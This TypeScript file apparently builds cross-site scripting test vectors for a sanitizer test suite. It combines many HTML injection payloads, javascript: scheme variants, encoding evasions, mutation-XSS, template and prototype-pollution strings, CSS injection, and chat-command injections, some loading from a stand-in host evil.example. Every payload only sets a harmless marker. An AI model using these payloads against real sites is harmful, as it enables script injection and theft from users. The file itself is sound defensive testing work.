/** Texts that have become code in one program or another, each of which tries to set `ran` on the page. */
const script = 'top.ran=1';

/** What ends the place where a text might stand. */
const ends = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</script>',
  '</style>',
  '</title>',
  '-->',
  ']]>',
  '`>',
  '\u2028',
  '\\">',
];

const elements = [
  `<script>${script}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${script}>`,
  `<img src="//evil.example/x.png">`,
  `<svg onload=${script}>`,
  `<svg/onload=${script}//`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"/></svg>`,
  `<math href="javascript:${script}">x</math>`,
  `<iframe srcdoc="<script>${script}</script>">`,
  `<iframe src="javascript:${script}">`,
  `<object data="javascript:${script}">`,
  `<embed src="javascript:${script}">`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}>`,
  `<audio src=x onerror=${script}>`,
  `<body onload=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}>`,
  `<marquee onstart=${script}>`,
  `<form><button formaction="javascript:${script}">x</button></form>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>`,
  `<template><img src=x onerror=${script}></template>`,
  `<div style="animation:x 1s" onanimationstart=${script}>`,
  `<b onclick=${script} onmouseover=${script}>x</b>`,
  `<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>`,
  `<x onpointerrawupdate=${script} tabindex=1 autofocus onfocus=${script}>`,
];

const spell: ((text: string) => string)[] = [
  (text) => text.toUpperCase().replace('TOP.RAN', 'top.ran'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => text.replace(/<(\w)/g, '<\u0001$1'),
  (text) => text.replace(/>$/, ''),
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  '&#106;avascript:',
  'javascript&colon;',
  'javascript://%0a',
  'javascript://x.example/%0a',
  'data:text/html,<script>',
  'vbscript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:javascript:',
];

const links: ((url: string) => string)[] = [
  (url) => url,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}'>x</a>`,
  (url) => `<a href=${url}>x</a>`,
  (url) => `<a title="x" href="${url}" href="https://shop.example">x</a>`,
  (url) => `[x](${url})`,
  (url) => `[url=${url}]x[/url]`,
];

const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<a href="https://shop.example/&quot; onmouseover=${script} x=&quot;">x</a>`,
  `<b <i onclick=${script}>x</b></i>`,
  `<a <b href="javascript:${script}">x</a>`,
];

const others = [
  `https://shop.example/" onmouseover="${script}`,
  `https://shop.example/'onmouseover='${script}`,
  'https://evil.example\\@shop.example/',
  'https://shop.example@evil.example/',
  'www.shop.example"onclick="top.ran=1',
  `a"onclick="${script}"@shop.example`,
  'https://shop.example/\u202egpj.exe',
  '\u202e\u2066txet eht si siht\u2069',
  '\u200b\u200d\ufeff\u00ad',
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `#{${script}}`,
  `<%= ${script} %>`,
  `{%${script}%}`,
  '__proto__',
  'constructor',
  'prototype[ran]=1',
  '[object Object]',
  '%s %d %o %c',
  '}</style>*{background:url(https://evil.example/x)}',
  ';background:url(https://evil.example/x);',
  `x:expression(${script})`,
  '/NIC Somebody else',
  '/BYE bye',
  '/CARD {"cards":[{"title":"x","link":"javascript:top.ran=1"}]}',
  '/BTNS [{"text":"x","id":"<script>"}]',
  '/GOTO javascript:top.ran=1',
  "$& $1 $` $'",
  'ﷺ'.repeat(20),
  `a${'\u0301'.repeat(200)}`,
];

export const vectors: string[] = [
  ...ends.flatMap((end) => elements.map((element) => end + element)),
  ...spell.flatMap((how) => elements.slice(0, 8).map(how)),
  ...schemes.flatMap((scheme) => links.map((link) => link(`${scheme}${script}`))),
  ...mutations,
  ...others,
];

/** `npm run prove:attack` shows them all; the suite, some of each kind. */
export const shown: string[] =
  process.env['PROVE_PAYLOADS'] === 'all' ? vectors : vectors.filter((_vector, at) => at % 37 === 3);
